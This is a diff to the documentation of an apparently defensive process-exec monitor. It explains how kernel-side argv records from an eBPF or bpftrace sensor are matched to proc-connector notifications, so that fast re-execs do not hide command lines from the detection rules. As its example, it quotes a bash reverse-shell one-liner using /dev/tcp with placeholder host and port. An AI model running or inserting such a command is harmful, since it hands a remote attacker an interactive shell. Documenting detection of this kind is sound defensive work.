@@ -4,15 +4,15 @@ The proc connector says only that a pid exec'd; the process table then reads the
 from ``/proc``. Under load that read can come late: after the process exec'd again
 (``bash -c 'bash -i >& /dev/tcp/h/p 0>&1'`` execs ``bash -i`` in the same pid a millisecond
 later, so both execs would read as ``bash -i`` and the reverse shell's command line is never
-seen) or after it exited (no command line at all). The bpftrace sensor reads each exec's argv
-in the kernel at ``sched:sched_process_exec``, which fires in the exec'ing task just before the
+seen) or after it exited (no command line at all). The ebpf sensor (or bpftrace) reads each
+exec's argv in the kernel at ``sched:sched_process_exec``, which fires in the exec'ing task just before the
 proc connector's notification; both are stamped with ``CLOCK_MONOTONIC``.
 
 :class:`ExecRecords` pairs them: an exec notification at kernel time ``T`` belongs to the latest
 record of its pid stamped at or before ``T`` (the next exec's record can only come after the
 whole next ``execve``, hundreds of microseconds later). When the record arrived first, the
 notification is corrected before the rules see it; when it arrives later (the usual order: the
-record goes through the bpftrace process), the already evaluated notification is corrected and
+ebpf sensor drains exec records on a timer, bpftrace's go through its process), the already evaluated notification is corrected and
 evaluated again, and only rules that did not fire the first time raise alerts. A ``/proc``
 command line consistent with the record (equal, or extending a truncated record) is kept: it
 is complete where the record holds only the first bytes.
